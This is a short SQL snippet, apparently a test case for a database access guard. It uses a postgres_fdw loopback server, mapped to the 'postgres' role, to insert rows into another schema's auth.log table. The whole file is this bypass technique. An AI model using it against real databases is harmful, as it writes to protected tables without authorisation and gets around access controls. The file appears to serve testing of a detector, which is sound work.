-- writes their table over a foreign table that leads back to this database
-- object: table auth.log
-- blind: where a server leads
CREATE EXTENSION postgres_fdw;
DO $$ BEGIN
	EXECUTE format('CREATE SERVER back FOREIGN DATA WRAPPER postgres_fdw OPTIONS (host %L, port %L, dbname %L)',
		split_part(current_setting('unix_socket_directories'), ',', 1), current_setting('port'), current_database());
END $$;
CREATE USER MAPPING FOR CURRENT_USER SERVER back OPTIONS (user 'postgres');
CREATE FOREIGN TABLE log_of_theirs (at timestamptz, what text) SERVER back OPTIONS (schema_name 'auth', table_name 'log');
INSERT INTO log_of_theirs VALUES (now(), 'x')
